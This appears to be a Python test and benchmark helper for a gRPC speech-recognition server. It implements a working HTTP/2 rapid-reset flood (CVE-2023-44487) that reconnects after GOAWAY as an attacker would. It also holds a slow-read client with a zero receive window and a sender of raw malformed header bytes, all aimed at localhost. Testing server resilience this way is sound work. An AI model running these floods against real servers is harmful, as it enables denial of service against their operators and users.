"""An HTTP/2 rapid-reset burst (CVE-2023-44487) with raw frames, for the test and the bench.

Opens streams on one connection and cancels each at once with RST_STREAM, never waiting
for an answer: HEADERS (and, for half of them, a DATA frame holding a real config, so the
server's handler starts and reads it) then RST_STREAM. When the server closes the
connection (GOAWAY), a new one is opened, as an attacker would.
"""

from __future__ import annotations

import socket
import struct
import time
from dataclasses import dataclass

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions
import h2.settings

from asr_api.v1 import asr_pb2
from asr_client import audio_config

METHOD = "/asr.v1.Recognizer/StreamingRecognize"


@dataclass
class BurstReport:
    streams: int = 0
    connections: int = 0
    goaways: int = 0
    seconds: float = 0.0


def grpc_frame(message: bytes) -> bytes:
    return b"\0" + struct.pack(">I", len(message)) + message


def rapid_reset(port: int, streams: int, *, time_limit_s: float = 60.0) -> BurstReport:
    """Blocking: open and reset ``streams`` streams against 127.0.0.1:``port``."""
    config = grpc_frame(
        asr_pb2.StreamingRecognizeRequest(config=audio_config()).SerializeToString()
    )
    headers = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", METHOD),
        (":authority", f"127.0.0.1:{port}"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]
    report = BurstReport()
    started = time.monotonic()
    while report.streams < streams and time.monotonic() - started < time_limit_s:
        report.connections += 1
        with socket.create_connection(("127.0.0.1", port), timeout=5) as sock:
            conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
            conn.initiate_connection()
            sock.sendall(conn.data_to_send())
            closed = False
            while not closed and report.streams < streams:
                try:
                    for _ in range(50):
                        sid = conn.get_next_available_stream_id()
                        conn.send_headers(sid, headers)
                        if report.streams % 2:
                            conn.send_data(sid, config)
                        conn.reset_stream(sid, h2.errors.ErrorCodes.CANCEL)
                        report.streams += 1
                    sock.sendall(conn.data_to_send())
                except (h2.exceptions.ProtocolError, OSError):
                    closed = True
                    break
                closed = _drain(sock, conn, report)
            if not closed:
                _wait_for_ping_ack(sock, conn, report)
    report.seconds = time.monotonic() - started
    return report


def _wait_for_ping_ack(
    sock: socket.socket, conn: h2.connection.H2Connection, report: BurstReport
) -> None:
    """A PING answered means the server has read every frame sent before it."""
    conn.ping(b"rr-burst")
    sock.sendall(conn.data_to_send())
    sock.settimeout(30)
    while True:
        data = sock.recv(65536)
        if not data:
            return
        for event in conn.receive_data(data):
            if isinstance(event, h2.events.PingAckReceived):
                return
            if isinstance(event, h2.events.ConnectionTerminated):
                report.goaways += 1
                return
        sock.sendall(conn.data_to_send())


def _drain(sock: socket.socket, conn: h2.connection.H2Connection, report: BurstReport) -> bool:
    """Take what the server sent without waiting; True once it has closed the connection."""
    sock.setblocking(False)
    try:
        while True:
            data = sock.recv(65536)
            if not data:
                return True
            for event in conn.receive_data(data):
                if isinstance(event, h2.events.ConnectionTerminated):
                    report.goaways += 1
                    return True
            sock.sendall(conn.data_to_send())
    except (BlockingIOError, InterruptedError):
        return False
    except (OSError, h2.exceptions.ProtocolError):
        return True
    finally:
        sock.setblocking(True)


def unread_health_checks(port: int, calls: int, *, listen_s: float) -> tuple[int, int]:
    """Blocking: ``calls`` Health.Check calls, each with its request, on one connection
    whose client never reads (its HTTP/2 receive window is 0), so no answer with a body
    can reach it; PINGs are answered, as a live client's are. Listens ``listen_s``, then
    closes. Returns (calls answered with a status, calls still open)."""
    headers = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", "/grpc.health.v1.Health/Check"),
        (":authority", f"127.0.0.1:{port}"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]
    with socket.create_connection(("127.0.0.1", port), timeout=5) as sock:
        conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        conn.initiate_connection()
        conn.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
        for _ in range(calls):
            sid = conn.get_next_available_stream_id()
            conn.send_headers(sid, headers)
            conn.send_data(sid, grpc_frame(b""), end_stream=True)
        sock.sendall(conn.data_to_send())
        ended: set[int] = set()
        sock.settimeout(0.05)
        deadline = time.monotonic() + listen_s
        while time.monotonic() < deadline:
            try:
                data = sock.recv(65536)
            except TimeoutError:
                continue
            if not data:
                break
            for event in conn.receive_data(data):
                if isinstance(event, h2.events.StreamEnded | h2.events.StreamReset):
                    ended.add(event.stream_id)
            sock.sendall(conn.data_to_send())  # PING acks, SETTINGS acks: a live client
    return len(ended), calls - len(ended)


def status_with_raw_header(port: int, name: bytes, value: bytes, *, wait_s: float = 10.0) -> str:
    """Blocking: a StreamingRecognize call on 127.0.0.1:``port`` whose headers carry
    ``name: value`` as raw bytes (grpc clients only send UTF-8), with a config; its
    grpc-status (as sent, a number in text)."""
    headers = [
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", METHOD.encode()),
        (b":authority", f"127.0.0.1:{port}".encode()),
        (b"content-type", b"application/grpc"),
        (b"te", b"trailers"),
        (name, value),
    ]
    config = asr_pb2.StreamingRecognizeRequest(config=audio_config()).SerializeToString()
    with socket.create_connection(("127.0.0.1", port), timeout=5) as sock:
        conn = h2.connection.H2Connection(
            h2.config.H2Configuration(client_side=True, validate_outbound_headers=False)
        )
        conn.initiate_connection()
        sid = conn.get_next_available_stream_id()
        conn.send_headers(sid, headers)
        conn.send_data(sid, grpc_frame(config), end_stream=True)
        sock.sendall(conn.data_to_send())
        deadline = time.monotonic() + wait_s
        while time.monotonic() < deadline:
            data = sock.recv(65536)
            if not data:
                break
            for event in conn.receive_data(data):
                if isinstance(event, h2.events.ResponseReceived | h2.events.TrailersReceived):
                    found = dict(event.headers).get(b"grpc-status")
                    if found is not None:
                        return found.decode()
            sock.sendall(conn.data_to_send())
    raise AssertionError("no grpc-status came back")
